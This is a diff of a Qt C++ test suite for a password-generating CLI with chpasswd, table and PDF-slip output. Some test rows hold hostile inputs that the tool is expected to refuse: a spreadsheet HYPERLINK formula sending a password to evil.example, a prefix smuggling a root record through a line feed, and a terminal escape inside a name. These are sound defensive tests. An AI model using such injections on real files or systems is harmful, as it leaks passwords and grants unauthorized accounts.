@@ -8,10 +8,14 @@
 #include <QDir>
 #include <QJsonArray>
 #include <QJsonDocument>
+#include <QMap>
 #include <QProcess>
 #include <QRegularExpression>
+#include <QSet>
 #include <QTemporaryDir>
 #include <QtTest>
+
+#include <algorithm>
 
 #include <crypt.h>
 #include <fcntl.h>
@@ -112,6 +116,47 @@ QByteArray entropyLine(double bits)
     return "entropy: " + QByteArray::number(bits, 'f', 1) + " bits per password\n";
 }
 
+// The text of each slip as pdftotext finds it, its words in reading order with nothing between them, or
+// empty when a word of it crosses a cut line. The slips fill each page inside 10 mm margins, two across and
+// five down.
+QByteArrayList slipTexts(const QString& pdf)
+{
+    constexpr qreal Margin = 10 / 25.4 * 72;
+    static const QRegularExpression page(uR"re(<page width="([\d.]+)" height="([\d.]+)">)re"_s);
+    static const QRegularExpression word(
+        uR"re(<word xMin="([\d.]+)" yMin="([\d.]+)" xMax="([\d.]+)" yMax="([\d.]+)">([^<]*)</word>)re"_s);
+    QMap<int, QList<std::pair<QPointF, QByteArray>>> slips;
+    const QString html = QString::fromUtf8(outputOf(u"pdftotext"_s, {u"-bbox"_s, pdf, u"-"_s}));
+    int pageNumber = -1;
+    QSizeF slip;
+    for (const QString& part : html.split(u"</page>"_s)) {
+        const QRegularExpressionMatch size = page.match(part);
+        if (!size.hasMatch())
+            continue;
+        ++pageNumber;
+        slip = QSizeF((size.captured(1).toDouble() - 2 * Margin) / 2, (size.captured(2).toDouble() - 2 * Margin) / 5);
+        for (const QRegularExpressionMatch& found : word.globalMatch(part)) {
+            const QRectF box(QPointF(found.captured(1).toDouble() - Margin, found.captured(2).toDouble() - Margin),
+                             QPointF(found.captured(3).toDouble() - Margin, found.captured(4).toDouble() - Margin));
+            const int column = int(box.center().x() / slip.width());
+            const int row = int(box.center().y() / slip.height());
+            if (!QRectF(QPointF(column * slip.width(), row * slip.height()), slip).contains(box))
+                return {};
+            slips[pageNumber * 10 + row * 2 + column].append({box.topLeft(), found.captured(5).toUtf8()});
+        }
+    }
+    QByteArrayList texts;
+    for (QList<std::pair<QPointF, QByteArray>>& words : slips) {
+        std::sort(words.begin(), words.end(), [](const auto& a, const auto& b) {
+            return std::pair(qRound(a.first.y()), a.first.x()) < std::pair(qRound(b.first.y()), b.first.x());
+        });
+        texts.append(QByteArray());
+        for (const auto& [where, text] : std::as_const(words))
+            texts.back() += text;
+    }
+    return texts;
+}
+
 } // namespace
 
 Q_DECLARE_METATYPE(PassphraseRecipe)
@@ -134,12 +179,17 @@ private slots:
     void closedPipeEndsTheRunQuietly();
     void noSecureRandomNumbersWriteNothing_data();
     void noSecureRandomNumbersWriteNothing();
+    void hostileNamesLeaveNoFile_data();
+    void hostileNamesLeaveNoFile();
+    void randomUsernamesOfAccountsAreAllDifferent();
     void readersGetTheNamesBack_data();
     void readersGetTheNamesBack();
     void hashesAreThoseOfThePlainPasswords_data();
     void hashesAreThoseOfThePlainPasswords();
     void entropyComesFirstOnStandardError_data();
     void entropyComesFirstOnStandardError();
+    void slipsHoldEveryTextWhole_data();
+    void slipsHoldEveryTextWhole();
     void slipsPaperFollowsTheLocale_data();
     void slipsPaperFollowsTheLocale();
     void helpListsEveryOptionWithItsDefault();
@@ -208,6 +258,23 @@ void TestCli::recordsFollowTheOptions_data()
     QTest::newRow("names from a file in CSV, with the chosen password characters")
         << QStringList{u"--names"_s, u"names.txt"_s, u"-F"_s, u"csv"_s, u"-s"_s, u"alphabetic"_s} << "x\ny\n"_ba
         << u"[A-Za-z]{16},x,[A-Za-z]{16},y"_s << QByteArray();
+    QTest::newRow("a byte order mark before the first name is no part of its chpasswd record")
+        << QStringList{u"-f"_s, u"-"_s, u"-F"_s, u"chpasswd"_s} << "\357\273\277zoe\nbob\n"_ba
+        << u"zoe:[A-Za-z0-9]{16}\nbob:[A-Za-z0-9]{16}\n"_s << QByteArray();
+    QTest::newRow("root gets a chpasswd record when system accounts are allowed")
+        << QStringList{u"-f"_s, u"-"_s, u"-F"_s, u"chpasswd"_s, u"--allow-system-accounts"_s} << "root\n"_ba
+        << u"root:[A-Za-z0-9]{16}\n"_s << QByteArray();
+    QTest::newRow("a Latin-1 list is written as it is where no person reads the records")
+        << QStringList{u"-f"_s, u"-"_s} << "Zo\xeb\n"_ba << u"[A-Za-z0-9]{16},Zo\uFFFD\n"_s << QByteArray();
+    QTest::newRow("no numeric password of a table starts with 0, which spreadsheets drop")
+        << QStringList{u"-F"_s, u"table"_s, u"-s"_s, u"numeric"_s, u"-l"_s, u"6"_s, u"-n"_s, u"20000"_s} << QByteArray()
+        << u"password\r\n([1-9][0-9]{5}\r\n)+"_s
+        << "varnel-cli: warning: these options allow only 900000 different passwords\n"_ba;
+    QTest::newRow("no symbol password of a table starts with = + - @ ', which spreadsheets run or hide")
+        << QStringList{u"-F"_s, u"table"_s, u"-s"_s, u"symbols"_s, u"--exclude"_s, u"0123456789"_s, u"-n"_s, u"20000"_s}
+        << QByteArray()
+        << u"password\r\n([A-Za-z!#$%^&*()_;:\\]\\[{}.<>][A-Za-z!@#$%^&*()_+=\\-';:\\]\\[{}.<>]{15}\r\n)+"_s
+        << QByteArray();
     QTest::newRow("a title that reads as one of the toolkit's own options is only a title")
         << QStringList{u"--title"_s, u"-platform"_s, u"--slips"_s, u"slips.pdf"_s} << QByteArray()
         << u"[A-Za-z0-9]{16}\n"_s << QByteArray();
@@ -282,6 +349,20 @@ void TestCli::usageErrorsWriteNothing_data()
     QTest::newRow("every class when the exclusions empty one is refused")
         << QStringList{u"--every-class"_s, u"--exclude"_s, u"0123456789"_s}
         << "varnel-cli: --every-class: --exclude leaves a class of the characters without any"_ba;
+    QTest::newRow("a prefix holding a line feed, which would write a root record, is refused")
+        << QStringList{u"-u"_s, u"numbered"_s, u"--prefix"_s, u"evil\nroot"_s}
+        << "varnel-cli: --prefix: a prefix holding the control character 0x0A is refused"_ba;
+    QTest::newRow("more random usernames for accounts than can be drawn all different are refused")
+        << QStringList{u"-u"_s,      u"random"_s, u"-l"_s,  u"3"_s,  u"-s"_s,
+                       u"numeric"_s, u"-n"_s,     u"501"_s, u"-F"_s, u"table"_s}
+        << "varnel-cli: --count: random usernames of these characters and length are drawn all different for 500 "
+           "accounts at most"_ba;
+    QTest::newRow("random usernames that may start a formula in a table are refused")
+        << QStringList{u"-u"_s, u"random"_s, u"-s"_s, u"symbols"_s, u"--plain"_s, u"plain.csv"_s}
+        << "varnel-cli: --usernames: random usernames of these characters may start with '='"_ba;
+    QTest::newRow("exclusions that leave a table no password a spreadsheet keeps are refused")
+        << QStringList{u"-F"_s, u"table"_s, u"-s"_s, u"numeric"_s, u"-l"_s, u"1"_s, u"--exclude"_s, u"123456789"_s}
+        << "varnel-cli: --exclude: leaves no password a spreadsheet keeps as it is"_ba;
     QTest::newRow("an option without its value is named") << QStringList{u"-l"_s} << "varnel-cli: -l: missing value"_ba;
     QTest::newRow("an argument that is no option is refused")
         << QStringList{u"extra"_s} << "varnel-cli: 'extra': unexpected argument"_ba;
@@ -322,6 +403,16 @@ void TestCli::usageErrorsWriteNothing_data()
         << "varnel-cli: --hash-cost: '12' is not a whole number from 1 to 11"_ba;
     QTest::newRow("a hash cost without hashes is refused")
         << QStringList{u"--hash-cost"_s, u"5000"_s} << "varnel-cli: --hash-cost: needs --hash"_ba;
+    QTest::newRow("plain passwords into the output file under another spelling are refused, even with --force")
+        << QStringList{u"--plain"_s, u"./out.txt"_s, u"--force"_s}
+        << "varnel-cli: --plain: names the same file as --output"_ba;
+    QTest::newRow("slips into the output file are refused")
+        << QStringList{u"--slips"_s, u"out.txt"_s} << "varnel-cli: --slips: names the same file as --output"_ba;
+    QTest::newRow("plain passwords through the user's own link to the output file are refused")
+        << QStringList{u"--plain"_s, u"mine.txt"_s} << "varnel-cli: --plain: names the same file as --output"_ba;
+    QTest::newRow("slips into a second name of the plain file are refused, even with --force")
+        << QStringList{u"--plain"_s, u"names.txt"_s, u"--slips"_s, u"again.txt"_s, u"--force"_s}
+        << "varnel-cli: --slips: names the same file as --plain"_ba;
 }
 
 void TestCli::usageErrorsWriteNothing()
@@ -332,13 +423,19 @@ void TestCli::usageErrorsWriteNothing()
     QTemporaryDir folder;
     QVERIFY(folder.isValid());
     createFile(folder.filePath(u"names.txt"_s), "alice\n"_ba);
+    // Other names of the user's for the files: a link to the output file to come, a hard link of names.txt.
+    QCOMPARE(::symlink("out.txt", nativePath(folder.filePath(u"mine.txt"_s)).constData()), 0);
+    QCOMPARE(::link(nativePath(folder.filePath(u"names.txt"_s)).constData(),
+                    nativePath(folder.filePath(u"again.txt"_s)).constData()),
+             0);
     const Outcome outcome = run(folder.path(), QStringList{u"-o"_s, u"out.txt"_s} + arguments);
 
     QCOMPARE(outcome.status, 2);
     QCOMPARE(outcome.out, QByteArray());
     QVERIFY2(isOneLineStartingWith(outcome.err, message), outcome.err.constData());
     QVERIFY2(outcome.err.contains("--help"), outcome.err.constData());
-    QCOMPARE(entriesOf(folder.path()), QStringList{u"names.txt"_s});
+    QCOMPARE(entriesOf(folder.path()), (QStringList{u"again.txt"_s, u"mine.txt"_s, u"names.txt"_s}));
+    QCOMPARE(contentOf(folder.filePath(u"names.txt"_s)), "alice\n"_ba);
 }
 
 void TestCli::fileErrorsLeaveNoOutputFile_data()
@@ -370,6 +467,19 @@ void TestCli::fileErrorsLeaveNoOutputFile_data()
         << QStringList{u"-n"_s,      u"30"_s,      u"-u"_s,        u"numbered"_s, u"-o"_s,
                        u"out.txt"_s, u"--slips"_s, u"/dev/full"_s, u"--force"_s}
         << "varnel-cli: /dev/full: No space left on device\n"_ba << false;
+    QTest::newRow("a password too long for its slip even in the smallest print kept is named by its record")
+        << QStringList{u"-n"_s, u"3"_s,    u"-u"_s, u"numbered"_s, u"--prefix"_s, u"s"_s,
+                       u"-l"_s, u"1024"_s, u"-o"_s, u"out.txt"_s,  u"--slips"_s,  u"slips.pdf"_s}
+        << "varnel-cli: slips.pdf: record 1 (username s1): the password does not fit on a slip even at 9 pt\n"_ba
+        << false;
+    QTest::newRow("a username too long for its slip even in the smallest print kept is named by its record")
+        << QStringList{u"-f"_s, u"folder/long.txt"_s, u"-o"_s, u"out.txt"_s, u"--slips"_s, u"slips.pdf"_s}
+        << "varnel-cli: slips.pdf: record 3 (username " + QByteArray(200, 'x')
+            + "): the username does not fit on a slip even at 8 pt\n"
+        << false;
+    QTest::newRow("a title too long for a slip even in the smallest print kept is refused before any slip")
+        << QStringList{u"--title"_s, u"Class 7B "_s.repeated(30), u"-o"_s, u"out.txt"_s, u"--slips"_s, u"slips.pdf"_s}
+        << "varnel-cli: slips.pdf: the title does not fit on a slip even at 7 pt\n"_ba << false;
     QTest::newRow("a name holding a colon cannot go into chpasswd records, and its line is named")
         << QStringList{u"-f"_s, u"folder/names.txt"_s, u"-F"_s, u"chpasswd"_s, u"-o"_s, u"out.txt"_s}
         << "varnel-cli: folder/names.txt: line 2: a username holding ':' cannot go into a chpasswd record\n"_ba
@@ -394,6 +504,7 @@ void TestCli::fileErrorsLeaveNoOutputFile()
     QVERIFY(folder.isValid());
     QVERIFY(QDir(folder.path()).mkdir(u"folder"_s));
     createFile(folder.filePath(u"folder/names.txt"_s), "alice\nbob:x\n\xff\xfe\n"_ba);
+    createFile(folder.filePath(u"folder/long.txt"_s), "alice\nbob\n" + QByteArray(200, 'x') + '\n');
     createFile(folder.filePath(u"old.txt"_s), "old,file\n"_ba, 0640);
     if (lockedFolder)
         QCOMPARE(::chmod(nativePath(folder.path()).constData(), 0555), 0);
@@ -503,6 +614,65 @@ void TestCli::noSecureRandomNumbersWriteNothing()
     QCOMPARE(entriesOf(folder.path()), QStringList());
 }
 
+void TestCli::hostileNamesLeaveNoFile_data()
+{
+    QTest::addColumn<QStringList>("arguments");
+    QTest::addColumn<QByteArray>("names");
+    QTest::addColumn<QByteArray>("message");
+
+    QTest::newRow("root in a list for chpasswd is refused")
+        << QStringList{u"-F"_s, u"chpasswd"_s} << "alice\nroot\n"_ba
+        << "varnel-cli: names.txt: line 2: root is an account of the system itself (--allow-system-accounts lets it "
+           "through)\n"_ba;
+    QTest::newRow("bob twice in a list for accounts is refused, naming both lines")
+        << QStringList{u"-F"_s, u"table"_s} << "bob\nalice\n\nbob\n"_ba
+        << "varnel-cli: names.txt: line 4: bob is also on line 1\n"_ba;
+    QTest::newRow("an escape inside a name is refused even in plain lines")
+        << QStringList{} << "alice\n\x1b[2Jbob\n"_ba
+        << "varnel-cli: names.txt: line 2: a username holding the control character 0x1B is refused\n"_ba;
+    QTest::newRow("a Latin-1 list is refused for slips")
+        << QStringList{u"--slips"_s, u"slips.pdf"_s} << "Zo\xeb \xc5ngstr\xf6m\n"_ba
+        << "varnel-cli: names.txt: line 1: a username that is not valid UTF-8 text is refused (save the list as "
+           "UTF-8)\n"_ba;
+    QTest::newRow("a hyperlink that would carry a password away is refused for the plain table")
+        << QStringList{u"--plain"_s, u"plain.csv"_s}
+        << "alice\n=HYPERLINK(\"http://evil.example/?pw=\"&B3,\"Verify your account\")\n"_ba
+        << "varnel-cli: names.txt: line 2: a username starting with '=' is refused: spreadsheets run it as a "
+           "formula\n"_ba;
+}
+
+void TestCli::hostileNamesLeaveNoFile()
+{
+    QFETCH(QStringList, arguments);
+    QFETCH(QByteArray, names);
+    QFETCH(QByteArray, message);
+
+    QTemporaryDir folder;
+    QVERIFY(folder.isValid());
+    createFile(folder.filePath(u"names.txt"_s), names);
+    const Outcome outcome = run(folder.path(), QStringList{u"-f"_s, u"names.txt"_s, u"-o"_s, u"out.txt"_s} + arguments);
+
+    QCOMPARE(outcome.status, 1);
+    QCOMPARE(outcome.out, QByteArray());
+    QCOMPARE(outcome.err, message);
+    QCOMPARE(entriesOf(folder.path()), QStringList{u"names.txt"_s});
+}
+
+// Without being drawn unique, 20,000 usernames of six digits repeat about 200 of them.
+void TestCli::randomUsernamesOfAccountsAreAllDifferent()
+{
+    QTemporaryDir folder;
+    QVERIFY(folder.isValid());
+    const Outcome outcome = run(
+        folder.path(),
+        {u"-u"_s, u"random"_s, u"-l"_s, u"6"_s, u"-s"_s, u"numeric"_s, u"-n"_s, u"20000"_s, u"-F"_s, u"chpasswd"_s});
+    QCOMPARE(outcome.status, 0);
+    QSet<QByteArray> usernames;
+    for (const QList<QByteArray>& record : chpasswdRecords(outcome.out))
+        usernames.insert(record[0]);
+    QCOMPARE(usernames.size(), 20000);
+}
+
 void TestCli::readersGetTheNamesBack_data()
 {
     QTest::addColumn<QString>("format");
@@ -518,13 +688,12 @@ void TestCli::readersGetTheNamesBack_data()
            "map(json.loads, sys.stdin.buffer.read().decode().splitlines())]))"_s;
 }
 
-// Names with commas, quotes, a carriage return, a backslash and letters beyond ASCII, as a class list may hold.
+// Names with commas, quotes, a backslash and letters beyond ASCII, as a class list may hold.
 void TestCli::readersGetTheNamesBack()
 {
     QFETCH(QString, format);
     QFETCH(QString, reader);
-    const QStringList names{u"Smith, John"_s, u"O\"Brien \"Jr\""_s, u"carriage\rreturn"_s, u"back\\slash"_s,
-                            u"Zoë Ångström"_s};
+    const QStringList names{u"Smith, John"_s, u"O\"Brien \"Jr\""_s, u"back\\slash"_s, u"Zoë Ångström"_s};
 
     QTemporaryDir folder;
     QVERIFY(folder.isValid());
@@ -625,6 +794,10 @@ void TestCli::entropyComesFirstOnStandardError_data()
     QTest::newRow("exclusions count, and those the characters never held are named")
         << QStringList{u"-s"_s, u"numeric"_s, u"--exclude"_s, u"9~"_s}
         << "entropy: 50.7 bits per password\nentropy: --exclude: '~' not among the characters\n"_ba;
+    QTest::newRow("a table's 16 digits never starting with 0 give 53.0 bits, then the spreadsheets' warning")
+        << QStringList{u"-F"_s, u"table"_s, u"-s"_s, u"numeric"_s, u"-l"_s, u"16"_s}
+        << "entropy: 53.0 bits per password\nvarnel-cli: warning: spreadsheets show all-digit passwords of 16 or "
+           "more digits as numbers, the digits after the 15th lost; open the password column as text\n"_ba;
 }
 
 void TestCli::entropyComesFirstOnStandardError()
@@ -638,7 +811,56 @@ void TestCli::entropyComesFirstOnStandardError()
 
     QCOMPARE(outcome.status, 0);
     QCOMPARE(outcome.err, entropy);
-    QCOMPARE(outcome.out.count('\n'), 2);
+    QCOMPARE(outcome.out.count('\n'), arguments.contains(u"table"_s) ? 3 : 2);
+}
+
+void TestCli::slipsHoldEveryTextWhole_data()
+{
+    QTest::addColumn<QStringList>("arguments");
+    QTest::addColumn<QByteArray>("names");
+    QTest::addColumn<QString>("title");
+
+    QTest::newRow("a 128-character password goes smaller over lines of whole characters, on letter's short slips too")
+        << QStringList{u"-n"_s, u"3"_s,  u"-u"_s,  u"numbered"_s, u"--prefix"_s,
+                       u"s"_s,  u"-l"_s, u"128"_s, u"--paper"_s,  u"letter"_s}
+        << QByteArray() << u"Class 7B, school network"_s;
+    QTest::newRow("a 64-character username goes smaller and stays on its own slip")
+        << QStringList{u"-f"_s, u"-"_s}
+        << "anna.berg.from.the.class.of.twenty-twenty-two.at.hillside.school\n"
+           "noah.smith.of.the.class.of.twenty-twenty-two.at.hillside.school1\n"
+           "zoe.angstrom.of.the.class.of.twenty-twenty-two.at.hillside.sch.u\n"_ba
+        << QString();
+    QTest::newRow("a title too long for a line at its size goes smaller and stays whole on every slip")
+        << QStringList{u"-n"_s, u"3"_s, u"-u"_s, u"numbered"_s} << QByteArray()
+        << u"Hillside Primary School, Class 7B, sign in to the school network today"_s;
+}
+
+// Nothing of a slip is cut off or strays onto its neighbour: each slip holds its own texts whole, in order.
+void TestCli::slipsHoldEveryTextWhole()
+{
+    QFETCH(QStringList, arguments);
+    QFETCH(QByteArray, names);
+    QFETCH(QString, title);
+
+    QTemporaryDir folder;
+    QVERIFY(folder.isValid());
+    arguments << u"-F"_s << u"table"_s << u"-o"_s << u"records"_s << u"--slips"_s << u"slips.pdf"_s;
+    if (!title.isEmpty())
+        arguments << u"--title"_s << title;
+    const Outcome outcome = run(folder.path(), arguments, names);
+    QCOMPARE(outcome.err, QByteArray());
+    QCOMPARE(outcome.status, 0);
+
+    QByteArrayList records = contentOf(folder.filePath(u"records"_s)).split('\n');
+    records.removeFirst();
+    records.removeLast();
+    QCOMPARE(records.size(), 3);
+    const QByteArrayList slips = slipTexts(folder.filePath(u"slips.pdf"_s));
+    QCOMPARE(slips.size(), records.size());
+    for (qsizetype i = 0; i < records.size(); ++i) {
+        const QByteArrayList pair = records[i].chopped(1).split(',');
+        QCOMPARE(slips[i], title.toUtf8().replace(' ', "") + "Username" + pair[0] + "Password" + pair[1]);
+    }
 }
 
 void TestCli::slipsPaperFollowsTheLocale_data()
@@ -706,6 +928,7 @@ void TestCli::helpListsEveryOptionWithItsDefault()
                              "(default: lines)",
                              "-o, --output <FILE>",
                              "--force",
+                             "--allow-system-accounts",
                              "--hash <METHOD>",
                              "--plain <FILE>",
                              "--slips <FILE>",
@@ -925,7 +1148,7 @@ void TestCli::shellConventionsHold()
 
     QCOMPARE(outcome.status, status);
     const QRegularExpression expectedOut(QRegularExpression::anchoredPattern(out));
-    QVERIFY2(expectedOut.match(QString::fromLatin1(outcome.out)).hasMatch(), outcome.out.left(2000).constData());
+    QVERIFY2(expectedOut.match(QString::fromUtf8(outcome.out)).hasMatch(), outcome.out.left(2000).constData());
     const QRegularExpression expectedErr(QRegularExpression::anchoredPattern(err));
     QVERIFY2(expectedErr.match(QString::fromUtf8(outcome.err)).hasMatch(), outcome.err.constData());
     QCOMPARE(entriesOf(folder.path()), files);
